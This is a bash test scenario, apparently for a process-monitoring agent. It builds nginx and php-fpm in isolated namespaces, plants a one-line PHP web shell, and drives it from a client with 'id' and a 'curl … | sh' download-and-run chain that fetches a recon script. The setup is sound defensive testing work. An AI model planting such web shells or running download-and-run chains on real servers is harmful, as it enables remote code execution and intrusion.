#!/usr/bin/env bash
# webshell: a real nginx + php-fpm inside namespace "web" serve a PHP page
# that runs the command from the request; a client in namespace "client"
# runs `id`, then a download-and-run chain (curl … | sh) fetching x.sh from
# its own web server. nginx reaches php-fpm over FastCGI (unix socket), so
# the attack processes descend from php-fpm, not nginx:
#   php-fpm8.2 master (root) → php-fpm8.2 pool worker (www-data) → sh → …
set -euo pipefail
source "$(dirname "$0")/../lib.sh"

phpfpm=$(command -v php-fpm8.2 || command -v php-fpm || true)
[ -n "$phpfpm" ] || die "php-fpm8.2 not installed (ci/deps.sh installs php8.2-fpm)"
command -v nginx >/dev/null || die "nginx not installed (ci/deps.sh installs nginx-light)"
python=/usr/bin/python3
[ -x "$python" ] || python=$(command -v python3)

make_ns web
make_ns client
veth_pair web client 198.18.0.1/30 198.18.0.2/30

# --- php-fpm: master runs as root, the pool worker as www-data -------------
php=$(tmpdir php)
www=$(tmpdir www)
cat >"$www/index.php" <<'PHP'
<?php system($_GET['c']); ?>
PHP
cat >"$php/php-fpm.conf" <<CONF
[global]
pid = $php/php-fpm.pid
error_log = $php/php-fpm.log
daemonize = no

[www]
user = www-data
group = www-data
listen = $php/fpm.sock
listen.mode = 0666
pm = static
pm.max_children = 1
catch_workers_output = yes
CONF
# -n: no php.ini (nothing read from /etc/php); -F: foreground.
spawn_in_ns web php-fpm "$phpfpm" -n -F -y "$php/php-fpm.conf"
wait_file "$php/fpm.sock"

# --- nginx (nginx-light): everything under the scenario's tmp --------------
ngx=$(tmpdir nginx)
cat >"$ngx/nginx.conf" <<CONF
daemon off;
user www-data;
worker_processes 1;
pid $ngx/nginx.pid;
error_log $ngx/error.log info;
events { worker_connections 64; }
http {
	access_log $ngx/access.log;
	client_body_temp_path $ngx/body;
	proxy_temp_path $ngx/proxy;
	fastcgi_temp_path $ngx/fastcgi;
	uwsgi_temp_path $ngx/uwsgi;
	scgi_temp_path $ngx/scgi;
	server {
		listen 198.18.0.1:8080;
		root $www;
		index index.php;
		location ~ \.php\$ {
			fastcgi_pass unix:$php/fpm.sock;
			fastcgi_param SCRIPT_FILENAME \$document_root\$fastcgi_script_name;
			fastcgi_param SCRIPT_NAME \$fastcgi_script_name;
			fastcgi_param QUERY_STRING \$query_string;
			fastcgi_param REQUEST_METHOD \$request_method;
			fastcgi_param CONTENT_TYPE \$content_type;
			fastcgi_param CONTENT_LENGTH \$content_length;
			fastcgi_param REQUEST_URI \$request_uri;
			fastcgi_param DOCUMENT_ROOT \$document_root;
			fastcgi_param SERVER_PROTOCOL \$server_protocol;
			fastcgi_param REMOTE_ADDR \$remote_addr;
			fastcgi_param SERVER_ADDR \$server_addr;
			fastcgi_param SERVER_PORT \$server_port;
			fastcgi_param SERVER_NAME \$server_name;
		}
	}
}
CONF
spawn_in_ns web nginx nginx -e "$ngx/error.log" -p "$ngx/" -c "$ngx/nginx.conf"
wait_port web 198.18.0.1 8080

# --- the attacker's download server in the client namespace ----------------
dl=$(tmpdir download)
cat >"$dl/x.sh" <<'SH'
id
uname -a
# Recon with shell builtins only (no extra processes): this shell's lineage.
pid=$$ chain= n=0
while [ "$pid" -gt 0 ] && [ $n -lt 8 ]; do
	name=? ppid=0
	while read -r k v; do
		case $k in Name:) name=$v ;; PPid:) ppid=$v ;; esac
	done <"/proc/$pid/status"
	chain="$name($pid)${chain:+ → $chain}"
	pid=$ppid n=$((n + 1))
done
echo "lineage: $chain"
SH
spawn_in_ns client download "$python" -m http.server --bind 198.18.0.2 --directory "$dl" 8081
wait_port client 198.18.0.2 8081

# --- the attack, from the client namespace ---------------------------------
shell() { in_ns client curl -sS --max-time 10 -G --data-urlencode "c=$1" http://198.18.0.1:8080/index.php; }

log "attack 1: c=id"
out=$(shell id) || die "request c=id failed; nginx: $(cat "$ngx/error.log" 2>/dev/null) php-fpm: $(cat "$php/php-fpm.log" 2>/dev/null)"
log "web shell answered: $out"
case $out in *"uid=33(www-data)"*) ;; *) die "expected id output for www-data, got: $out" ;; esac

log "attack 2: c=curl -s http://198.18.0.2:8081/x.sh | sh"
out=$(shell 'curl -s http://198.18.0.2:8081/x.sh | sh') || die "download-and-run request failed"
printf '%s\n' "$out" | while IFS= read -r line; do log "web shell answered: $line"; done
case $out in *"uid=33(www-data)"*"lineage: "*php-fpm*) ;; *) die "download-and-run did not run x.sh under php-fpm: $out" ;; esac
# Leave the servers up a moment so the agent reads their /proc entries
# while the chain is still warm; cleanup then stops them.
sleep 0.5
